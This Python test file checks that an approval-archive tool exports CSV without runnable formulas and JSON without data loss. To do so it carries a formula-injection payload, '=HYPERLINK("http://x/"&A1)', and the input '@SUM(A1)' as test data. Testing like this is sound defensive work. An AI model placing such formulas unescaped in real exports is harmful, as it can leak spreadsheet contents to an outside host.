"""Exports: a file that a spreadsheet opens, and cannot be made to run; JSON that loses nothing."""

import csv
import io
import json
import re
import unicodedata
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dingbridge.consumers.approval import Approval
from dingbridge.consumers.approval.archive.export import BOM, escaped, file_name, write_csv, write_json
from dingbridge.consumers.approval.archive.query import Filter, count, table_columns
from dingbridge.testing.memory import MemoryRuntime
from tests.unit.approval.office import Office, T, deliver, field, instance

ZONE = ZoneInfo("Asia/Shanghai")
EVIL = '=HYPERLINK("http://x/"&A1)'
TABLE = json.dumps(
    [
        {
            "rowValue": [
                {"label": "名称", "value": "笔"},
                {"label": "价格", "value": "-1.5", "componentType": "MoneyField"},
            ]
        },
        {"rowValue": [{"label": "名称", "value": "@SUM(A1)"}, {"label": "价格", "value": "2"}]},
    ]
)
FORM = [
    field("事由", EVIL),
    field('["开始日期","结束日期"]', '["2024-11-11","2024-11-12"]', "DDDateRangeField"),
    field("金额", "-12345678901234567.50", "MoneyField"),
    field("颜色", '["红","蓝"]', "DDMultiSelectField"),
    field("收货人", "张三", "InnerContactField", ext_value='[{"emplId":"u1","name":"张三"}]'),
    field("明细", TABLE, "TableField"),
    field("发票", '[{"fileId":"9","fileName":"a.pdf"},{"fileId":"8","fileName":"b.pdf"}]', "DDAttachment"),
    field("空", "null"),
    field("备注", 'a "b",\n第二行'),
]


@pytest.fixture
async def archive():
    office = Office()
    office.finish(form=FORM)
    office.finish("pi-2", form=[field("事由", "二"), field("新字段", "x")])
    office.finish("pi-3")
    async with MemoryRuntime(Approval({}), dingtalk=office) as runtime:
        for number, code in (("pi-1", "PROC-X"), ("pi-2", "PROC-X"), ("pi-3", "PROC-Y")):
            await deliver(runtime, instance("finish", processInstanceId=number, processCode=code))
        await deliver(runtime, instance("start", processInstanceId="pi-4", processCode="PROC-X"))
        yield runtime


async def as_csv(archive, wanted, tables=None):
    sink = io.StringIO(newline="")
    await write_csv(archive.database.reader(), wanted, sink, ZONE, tables)
    return sink.getvalue()


def rows_of(text):
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


async def test_a_row_for_each_approval_and_a_column_for_each_component(archive):
    first, second = rows_of(await as_csv(archive, Filter(["PROC-X"])))
    assert list(first)[:3] == ["instance_id", "business_id", "title"]
    assert (first["instance_id"], second["instance_id"]) == ("pi-1", "pi-2")
    assert first["started_at"] == "2024-11-08 01:20:00"
    assert first["开始日期 ~ 结束日期"] == "2024-11-11 ~ 2024-11-12"
    assert (first["金额"], first["颜色"], first["收货人"]) == ("-12345678901234567.50", "红; 蓝", "张三")
    assert (first["发票"], first["空"], first["备注"]) == ("a.pdf; b.pdf", "", 'a "b",\n第二行')
    assert json.loads(first["明细"]) == [{"名称": "笔", "价格": "-1.5"}, {"名称": "@SUM(A1)", "价格": "2"}]
    assert (first["新字段"], second["新字段"], second["金额"]) == ("", "x", "")


async def test_no_cell_can_be_run_as_a_formula(archive):
    tables = {"明细": io.StringIO(newline="")}
    first, _ = rows_of(await as_csv(archive, Filter(["PROC-X"]), tables))
    assert first["事由"] == "'" + EVIL
    pen, sum_ = rows_of(tables["明细"].getvalue())
    assert (pen["row"], pen["名称"], pen["价格"]) == ("1", "笔", "-1.5")
    assert (sum_["instance_id"], sum_["名称"]) == ("pi-1", "'@SUM(A1)")


INVISIBLE = st.text("\u200b\ufeff\u00a0\u3000 \t\r\n\x00\x1f", max_size=3)


@given(INVISIBLE, st.sampled_from("=+-@＝＋－＠﹦﹢﹣﹫−"), st.text())
def test_no_text_begins_a_formula_whatever_stands_before_it_or_how_wide_it_is(before, sign, after):
    out = escaped(before + sign + after)
    assert out.replace("'", "") == (before + sign + after).replace("'", "")
    for cell in re.split(r"[;\t\r\n]", out):  # as another spreadsheet takes it apart
        begin = unicodedata.normalize("NFKC", "".join(c for c in cell if is_visible(c)))
        assert not begin.startswith(("=", "+", "-", "@", "−"))


def is_visible(character):
    return character != '"' and unicodedata.category(character)[0] not in "CZ"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("+1", "'+1"),
        ("-1", "'-1"),
        (";=1", ";'=1"),
        ("a; =1", "a;' =1"),
        ("a\n-1", "a\n'-1"),
        ('b;"=1";', 'b;\'"=1";'),
        ("+8613800000000", "'+8613800000000"),
    ],
)
def test_a_text_that_looks_like_a_number_or_begins_another_cell_is_no_formula(text, cell):
    assert escaped(text) == cell


@pytest.mark.parametrize("number", ["-1", "-1,234.50", "12%", "-3%"])
def test_numbers_of_number_components_stay_numbers(number):
    assert escaped(number, "number") == escaped(number, "money") == number


@given(st.text())
def test_a_tables_name_leads_nowhere_as_part_of_a_files(name):
    part = file_name(name)
    assert part
    assert not {"/", "\\", ".", "\0"} & set(part)


async def test_json_has_every_value_parsed_and_loses_nothing(archive):
    sink = io.StringIO()
    assert await write_json(archive.database.reader(), Filter(["PROC-X"]), sink, ZONE) == 2
    first, _ = json.loads(sink.getvalue(), parse_float=Decimal)
    form = {value["name"]: value for value in first["form"]}
    assert form["事由"]["value"] == EVIL
    assert str(form["金额"]["number"]) == "-12345678901234567.50"
    assert form["颜色"]["parsed"] == ["红", "蓝"]
    assert form['["开始日期","结束日期"]']["starts_on"] == "2024-11-11"
    assert "starts_at" not in form['["开始日期","结束日期"]']
    assert [[cell["value"] for cell in row] for row in form["明细"]["rows"]] == [
        ["笔", "-1.5"],
        ["@SUM(A1)", "2"],
    ]
    assert [task["task_id"] for task in first["tasks"]] == ["61056035232"]
    assert [file["file_name"] for file in first["attachments"]] == ["b.pdf", "a.pdf"]
    assert first["started_at"] == "2024-11-07T17:20:00+00:00"


async def test_an_export_is_of_one_template_and_of_what_ended_in_the_time(archive):
    from dingbridge.snapshots.coerce import from_epoch_ms

    db, end = archive.database.reader(), from_epoch_ms(T + 100_000)
    assert await count(db, Filter(["PROC-X"])) == 2
    assert await count(db, Filter(["PROC-Y"])) == 1
    assert await count(db, Filter(["PROC-X"], since=end)) == 2
    assert await count(db, Filter(["PROC-X"], until=end)) == 0
    assert await table_columns(db, Filter(["PROC-X"])) == {"明细": ["名称", "价格"]}
    assert rows_of(await as_csv(archive, Filter(["PROC-Z"]))) == []


async def test_more_approvals_than_a_page_are_all_exported_once(archive, monkeypatch):
    monkeypatch.setattr("dingbridge.consumers.approval.archive.query.PAGE", 1)
    rows = rows_of(await as_csv(archive, Filter(["PROC-X"])))
    assert [row["instance_id"] for row in rows] == ["pi-1", "pi-2"]
